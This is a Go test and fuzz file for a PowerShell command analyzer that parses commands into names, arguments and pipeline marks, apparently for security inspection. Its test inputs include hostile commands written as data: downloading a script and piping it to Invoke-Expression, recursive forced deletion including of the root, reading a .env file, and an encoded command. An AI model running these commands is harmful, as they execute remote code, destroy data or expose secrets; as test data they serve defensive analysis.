package shell

import (
	"strings"
	"testing"
)

func TestAnalyzePowerShell(t *testing.T) {
	tests := []struct {
		src  string
		want []string // name and args of each command, space-joined
	}{
		{"Remove-Item -Recurse -Force C:\\tmp\\x", []string{"remove-item -recurse -force C:\\tmp\\x"}},
		{"rm -rec -fo dist", []string{"remove-item -recurse -force dist"}},
		{"RI dist -R", []string{"remove-item dist -recurse"}},
		{"Get-Content .env | Out-File x.txt", []string{"get-content .env", "out-file x.txt |00 get-content .env"}},
		{"iwr https://e.com/x.ps1 | iex", []string{"invoke-webrequest https://e.com/x.ps1", "invoke-expression |00 invoke-webrequest https://e.com/x.ps1"}},
		{"iex (iwr https://e.com/x)", []string{"invoke-webrequest https://e.com/x", "invoke-expression (iwr https://e.com/x)"}},
		{"& 'C:\\Program Files\\x.exe' -a", []string{"c:\\program files\\x -a"}},
		{"echo $(Remove-Item -Recurse x)", []string{"remove-item -recurse x", "write-output $(Remove-Item -Recurse x)"}},
		{`Write-Host "id: $(whoami)"`, []string{"whoami", "write-host id: $(whoami)"}},
		{"git status; npm test && npm run build || echo fail", []string{"git status", "npm test", "npm run build", "write-output fail"}},
		{"Get-ChildItem | ForEach-Object { Remove-Item $_ -Force }", []string{"get-childitem", "foreach-object {...} |0 get-childitem", "remove-item $_ -force $: |0 get-childitem"}},
		// $_ in the block of a ForEach-Object or Where-Object stage is
		// what the stages before it give; not in a nested block.
		{"gci src | sort Name | % { gc $_.FullName; gc $_.Name }", []string{"get-childitem src", "sort-object Name |00 get-childitem src",
			"foreach-object {...} |00 sort-object Name |00 get-childitem src",
			"get-content $_.FullName $: |00 sort-object Name |00 get-childitem src", "get-content $_.Name"}},
		{"gci | ? { Test-Path $PSItem } | % { if ($x) { gc $_ } }", []string{"get-childitem", "where-object {...} |0 get-childitem",
			"test-path $PSItem $: |0 get-childitem", "foreach-object {...} |01 where-object {...} |0 get-childitem", "if ($x) {...}", "get-content $_"}},
		{"# comment\nls <# block\ncomment #> src", []string{"get-childitem src"}},
		{"'it''s' | Set-Content -Path a.txt", []string{"set-content -path a.txt |00  it's"}},
		// Each stage of a pipeline carries the earlier ones, nearest
		// first; a native program's words are left out.
		{"gci -Force src | ? { $_.Length } | gc", []string{"get-childitem -force src", "where-object {...} |000 get-childitem -force src",
			"get-content |01 where-object {...} |000 get-childitem -force src"}},
		{"git log --grep .env | Select-String x", []string{"git log --grep .env", "select-string x |0 git"}},
		{"gci $d | gc", []string{"get-childitem $d", "get-content |01 get-childitem $d"}},
		{"gci\n| gc", []string{"get-childitem", "get-content |0 get-childitem"}},
		{"gci |\n  gc", []string{"get-childitem", "get-content |0 get-childitem"}},
		{"gci\ngc", []string{"get-childitem", "get-content"}},
		{"gci; gc x", []string{"get-childitem", "get-content x"}},
		{"git status | gc", []string{"git status", "get-content |0 git"}},
		// & after a command runs it in the background and ends the
		// pipeline: what follows is a command of its own.
		{"Write-Output x & Remove-Item -Recurse /", []string{"write-output x", "remove-item -recurse /"}},
		{"& gc x & gc y", []string{"get-content x", "get-content y"}},
		// A script block's commands are commands; the stage it belongs
		// to is one command, whatever comes after the block.
		{"ForEach-Object -Begin { gc a } -Process { gc b }", []string{"foreach-object -begin {...} -process {...}", "get-content a", "get-content b"}},
		{"if (Test-Path x) { gc x } else { gc y }", []string{"test-path x", "if (Test-Path x) {...} else {...}", "get-content x", "get-content y"}},
		{"& { gc x } y", []string{"get-content x"}},
		// No word holds a NUL byte.
		{"gc \"a\x00|0 x\"", []string{"get-content a\ufffd|0 x"}},
		{"Write-Output 'it''s'", []string{"write-output it's"}},
		{"Get-Process > procs.txt", []string{"get-process"}},
		{"pwsh -NoProfile -Command \"Remove-Item -Recurse -Force dist\"", []string{"pwsh -noprofile -command Remove-Item -Recurse -Force dist", "remove-item -recurse -force dist"}},
		{"Get-Content `\n  .env", []string{"get-content .env"}},
		{"git -C repo status", []string{"git -C repo status"}},
	}
	for _, tc := range tests {
		res, err := AnalyzePowerShell(tc.src, nil)
		if err != nil {
			t.Errorf("AnalyzePowerShell(%q): %v", tc.src, err)
			continue
		}
		var got []string
		for _, c := range res.Commands {
			if c.Name == "" {
				continue
			}
			line := strings.TrimSpace(c.Name + " " + strings.Join(c.Args, " "))
			got = append(got, strings.NewReplacer(PipeMark, "|", ItemMark, "$:").Replace(line))
		}
		if strings.Join(got, "\n") != strings.Join(tc.want, "\n") {
			t.Errorf("AnalyzePowerShell(%q):\n got %q\nwant %q", tc.src, got, tc.want)
		}
	}
	res, _ := AnalyzePowerShell("Get-Process > procs.txt 2>&1", nil)
	if len(res.Commands[0].Redirects) != 1 || res.Commands[0].Redirects[0].Target != "procs.txt" {
		t.Errorf("redirects: %+v", res.Commands[0].Redirects)
	}
	res, _ = AnalyzePowerShell("$cmd = 'rm'; & $cmd -r x", nil)
	if len(res.Problems) == 0 {
		t.Error("a dynamic program must be a problem")
	}
	res, _ = AnalyzePowerShell("powershell -enc SQBFAFgA", nil)
	if len(res.Problems) == 0 {
		t.Error("-EncodedCommand must be a problem")
	}
	for _, bad := range []string{"'unclosed", "\"unclosed", "$(unclosed", "<# unclosed", strings.Repeat("$(", 100) + "x" + strings.Repeat(")", 100)} {
		if _, err := AnalyzePowerShell(bad, nil); err == nil {
			t.Errorf("AnalyzePowerShell(%q): want an error", bad)
		}
	}
}

func FuzzAnalyzePowerShell(f *testing.F) {
	for _, s := range []string{"rm -rec -fo x", "iwr u | iex", "echo \"$(x)\"", "@'\nx\n'@", "& 'a' b; c && d || e",
		"Get-ChildItem { $_ } (x) @(y)", "a `\n b", "<# c #> d", "x > y 2>&1",
		"gci -Force | ? { $_ } | gc", "a\n| b | c", "x & y", "'a','b' | ri", "% -Begin { a } -Process { b | c }", "1..3 | gc",
		"gci | % { gc $_ } | ? { ri $PSItem.FullName }", "0|%{AC $_|%"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		res, err := AnalyzePowerShell(s, nil)
		if err != nil {
			if e, ok := err.(*ParseError); !ok || e.Line < 1 || e.Col < 1 || e.Msg == "" {
				t.Fatalf("AnalyzePowerShell(%q): error %v (%T) is not a located *ParseError", s, err, err)
			}
			return
		}
		for _, c := range res.Commands {
			if len(c.Args) != len(c.ArgDynamic) {
				t.Fatalf("%q: Args and ArgDynamic differ in length", s)
			}
			// Every PipeMark describes the words up to the next one; no
			// other word holds a NUL byte.
			mark := func(a string) bool { return strings.HasPrefix(a, PipeMark) || a == ItemMark }
			for i := 0; i < len(c.Args); i++ {
				if c.Args[i] == ItemMark {
					continue
				}
				if !strings.HasPrefix(c.Args[i], PipeMark) {
					if strings.Contains(c.Args[i], "\x00") {
						t.Fatalf("%q: word %q holds a NUL byte", s, c.Args[i])
					}
					continue
				}
				j := i + 1
				for j < len(c.Args) && !mark(c.Args[j]) {
					j++
				}
				if flags := strings.TrimPrefix(c.Args[i], PipeMark); len(flags) != j-i-1 || !c.ArgDynamic[i] {
					t.Fatalf("%q: mark %q describes %d words", s, c.Args[i], j-i-1)
				}
				i = j - 1
			}
		}
		again, _ := AnalyzePowerShell(s, nil)
		if len(again.Commands) != len(res.Commands) {
			t.Fatalf("%q: not deterministic", s)
		}
	})
}
